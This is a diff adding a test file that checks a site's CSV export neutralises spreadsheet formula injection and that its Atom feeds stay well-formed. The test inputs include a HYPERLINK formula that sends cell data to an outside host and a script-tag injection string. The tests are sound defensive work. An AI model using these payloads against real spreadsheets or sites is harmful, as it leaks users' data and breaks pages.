@@ -1,0 +1,82 @@
+/**
+ * Open data and feeds under hostile text: CSV cells that a spreadsheet would run as formulas are
+ * neutralised (OWASP: a leading `'`), read back with a CSV parser; Atom feeds drop the control
+ * characters XML does not allow and stay well-formed for an XML parser.
+ */
+import { parse as parseCsv } from 'csv-parse/sync'
+import { XMLParser, XMLValidator } from 'fast-xml-parser'
+import { describe, expect, it } from 'vitest'
+import { toCsv } from '@mahjar/scripts/lib/citation/csv'
+import { atomFeed } from '@mahjar/site/lib/feed'
+import type { SiteData } from '@mahjar/site/lib/content'
+
+describe('open data CSV', () => {
+  it('prefixes with an apostrophe every text cell that starts like a formula, in both languages', () => {
+    const hostile = [
+      '=HYPERLINK("https://other.host/?"&A1,"x")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\tTAB',
+      '\rCR',
+    ]
+    const docs = hostile.map((text, i) => ({
+      code: `AIE-F${String(i)}`,
+      statement: { ar: `${text} عربي`, en: text },
+      order: -i,
+    }))
+    const rows = parseCsv<Record<string, string>>(toCsv(docs), { bom: true, columns: true })
+    rows.forEach((row, i) => {
+      expect(row['statement.en']).toBe(`'${hostile[i] ?? ''}`)
+      expect(row['statement.ar']).toBe(`'${hostile[i] ?? ''} عربي`)
+      // Numbers are numbers, not formulas: a negative order stays as it is.
+      expect(row.order).toBe(String(-i))
+    })
+  })
+
+  it('leaves ordinary text alone', () => {
+    const rows = parseCsv<Record<string, string>>(
+      toCsv([{ code: 'AIE-F01', statement: { ar: 'أكثر من 90%', en: 'More than 90%' } }]),
+      { bom: true, columns: true },
+    )
+    expect(rows[0]?.['statement.ar']).toBe('أكثر من 90%')
+    expect(rows[0]?.['statement.en']).toBe('More than 90%')
+  })
+})
+
+describe('Atom feeds', () => {
+  const control = 'a\u0000b\u0001c\u0008d\u000Be\u000Cf\u001Fg\uFFFEh\uD800i'
+  const site = {
+    reports: [
+      {
+        slug: 'hostile-report',
+        title: { ar: `تقرير ${control}`, en: `Report ${control} </title><script>x</script>` },
+        summary: { ar: `ملخص ${control}`, en: `Summary ${control} ]]>` },
+        updatedAt: '2026-01-02T00:00:00.000Z',
+        createdAt: '2026-01-01T00:00:00.000Z',
+      },
+    ],
+    findings: [
+      {
+        code: 'AIE-F01',
+        statement: { ar: `نص ${control}`, en: `Statement ${control}` },
+        updatedAt: '2026-01-03T00:00:00.000Z',
+        createdAt: '2026-01-01T00:00:00.000Z',
+      },
+    ],
+    stories: [],
+  } as unknown as SiteData
+
+  it.each([['ar'], ['en']] as const)(
+    'stays well-formed XML in %s with control characters in every text',
+    (lang) => {
+      const xml = atomFeed(site, lang)
+      expect(XMLValidator.validate(xml)).toBe(true)
+      // eslint-disable-next-line no-control-regex
+      expect(xml).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/)
+      const feed = new XMLParser().parse(xml) as { feed: { entry: { title: string }[] } }
+      const titles = feed.feed.entry.map((e) => e.title)
+      expect(titles.join(' ')).toContain(lang === 'ar' ? 'تقرير abcdefghi' : 'Report abcdefghi')
+    },
+  )
+})
